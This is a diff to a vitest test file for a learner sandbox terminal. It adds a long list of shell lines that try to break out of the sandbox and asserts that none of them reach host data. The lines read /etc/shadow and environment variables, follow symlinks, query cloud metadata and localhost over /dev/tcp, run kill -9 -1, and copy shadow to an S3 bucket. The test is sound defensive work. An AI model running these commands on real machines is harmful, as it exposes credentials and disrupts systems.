@@ -1,3 +1,4 @@
+import { release } from 'node:os'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { install, type Installation } from '../support/server.ts'
 import { connect, learner, openTerminal, plain, ticket, upgrade, type Learner } from '../support/terminal.ts'
@@ -7,7 +8,8 @@ let url: string
 let alice: Learner
 let bob: Learner
 beforeAll(async () => {
-  installation = await install()
+  // Nothing is deployed here, so nobody has to wait for a worker.
+  installation = await install({ role: 'api' })
   url = installation.server.url
   alice = await learner(installation.api, url)
   bob = await learner(installation.api, url)
@@ -59,15 +61,38 @@ test('one learner meets nothing of another: no terminal, file, history or world'
   theirs.close()
 })
 
-test('nothing of the machine is in the shell', async () => {
+/** Lines that would reach the machine, its network, its variables or another learner, and what would show that they did. */
+const REACHES = [
+  'cat /etc/passwd /etc/shadow /etc/hostname /etc/hosts /etc/resolv.conf /etc/fstab /etc/machine-id',
+  'cat /proc/1/environ /proc/self/environ /proc/self/cmdline /proc/self/maps /proc/cpuinfo /proc/version /proc/mounts',
+  'ls -la / /root /work /home /opt /srv /mnt /var /var/lib /tmp /dev /sys /run /usr/local',
+  'cat ~/../../etc/shadow ../../../../../../etc/shadow /home/learner/../../root/.ssh/id_rsa //etc//shadow /etc/./shadow',
+  'ln -s /etc/shadow x; cat x; ln -s / root; ls root/root; ln /etc/shadow y; cat y; readlink -f x; cp /etc/shadow z; cat z',
+  'cd /proc/self/root && ls; cd /proc/1/root && ls; ls /dev/fd /dev/shm; cat /dev/mem /dev/kmsg',
+  'find / -maxdepth 3 -name "*.key" -o -maxdepth 3 -name "admin-api-key" -o -maxdepth 3 -name "*.sock"',
+  'env; export -p; set; declare -p; printenv; awk \'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}\'; jq -n env; jq -n "\\$ENV"',
+  'python3 -c "import os; print(os.listdir(\'/\'))"; node -e "console.log(process.env)"; perl -e "print %ENV"; ruby -e 1; php -r 1; sqlite3; js-exec 1',
+  'awk \'BEGIN{system("id"); "id" | getline x; print x; getline y < "/etc/shadow"; print y}\'; sed "1e id" /etc/passwd; sed "w /etc/x" /etc/passwd; find / -exec id \\; | head -1',
+  'xargs -a /etc/shadow echo; tar cf - /etc/shadow | tar tf -; gzip -c /etc/shadow | wc -c; base64 /etc/shadow; od /etc/shadow; strings /etc/shadow; rg . /etc/shadow; diff /etc/shadow /dev/null',
+  'curl http://127.0.0.1:8080/; wget http://169.254.169.254/latest/meta-data/; echo > /dev/tcp/127.0.0.1/8080; exec 3<>/dev/tcp/127.0.0.1/5432; cat < /dev/udp/127.0.0.1/53; html-to-markdown http://127.0.0.1',
+  'nc 127.0.0.1 80; ssh root@127.0.0.1; ping -c 1 127.0.0.1; ps aux; kill -9 1; kill -9 -1; top; mount; df; uname -a; hostname; whoami; id; w; who; last',
+  'bash -c "cat /etc/shadow"; sh -c env; eval "cat /etc/shadow"; source /etc/shadow; . /root/.profile; exec bash; command cat /etc/shadow; builtin echo x; enable -f /lib/x.so x',
+  'echo $BASH_ENV $NODE_OPTIONS $PATH $DATABASE_URL $HOME ~root ~postgres; BASH_ENV=/etc/shadow bash -c true; LD_PRELOAD=/x cat /etc/shadow; PATH=/bin:/usr/bin ls /bin',
+  'x=__proto__; declare -A a; a[__proto__]=1; a[constructor]=2; echo ${a[constructor]} ${a[__proto__]}; __proto__=1; echo $__proto__; constructor() { echo own; }; constructor',
+  'printf "%s" "$(</etc/shadow)"; mapfile -t l < /etc/shadow; echo "${l[@]}"; read -r v < /proc/self/environ; echo "$v"; cat <(cat /etc/shadow); echo /etc/sh*; echo /root/* /home/*',
+  'terraform -chdir=/etc version; terraform -chdir=../.. init; aws s3 cp /etc/shadow s3://b/; aws ec2 describe-vpcs --cli-input-json file:///etc/shadow; aws ec2 describe-vpcs --query file:///proc/self/environ --endpoint-url http://127.0.0.1:8080',
+  'gcloud compute networks list --flags-file=/etc/shadow; gcloud compute networks list --format="value(/etc/shadow)"; nano /etc/shadow; vim ../../etc/passwd; man ../../etc/passwd; less /etc/shadow < /dev/null | cat',
+]
+
+test('nothing of the machine is in the shell, whatever is tried', async () => {
   const terminal = await openTerminal(bob)
-  const seen = plain(
-    await terminal.run(
-      'cat /etc/passwd /etc/shadow /proc/1/environ /proc/self/environ; ls / /root /work /home; env; cat ~/../../etc/hostname; ln -s /etc/shadow x; cat x; python3 -c 1; node -e 1; sqlite3',
-    ),
-  )
-  expect(seen).toMatch(/learner:x:1000/)
-  expect(seen).not.toMatch(/root:[$*!]|DATABASE|NODE_|node_modules|daemon:x/)
+  let seen = ''
+  for (const line of REACHES) seen += plain(await terminal.run(`${line} 2>&1 | cat; true`))
+  const reached =
+    /root:[$*!x]:\d{5}|root:\*|daemon:|postgres:|DATABASE|DATA_DIR|NODE_|node_modules|BEGIN OPENSSH|ssh-rsa|admin-api-key$|instance-id|model name|\/work\/|uid=0|own uid/m
+  expect(seen).not.toContain(release())
+  expect(reached.exec(seen.replaceAll(/^.*learner@sandbox.*$/gm, ''))?.[0]).toBeUndefined()
+  expect(plain(await terminal.run('cat /etc/passwd'))).toMatch(/learner:x:1000/)
   terminal.close()
 })
 
